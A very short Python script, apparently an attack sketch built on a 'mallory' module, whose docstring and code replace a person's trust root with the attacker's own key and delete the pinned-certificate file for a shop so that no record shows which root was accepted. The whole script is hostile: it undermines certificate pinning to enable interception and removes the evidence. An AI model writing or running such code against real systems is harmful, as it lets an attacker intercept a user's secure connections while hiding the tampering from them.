#!/usr/bin/env python3
"""Take the person's pin away, so that nothing says which trust root was accepted, and bring our own."""

import mallory

mallory.replace_root(mallory.own_key())
(mallory.CONFIG / "pins" / "shop.json").unlink(missing_ok=True)
mallory.ask()
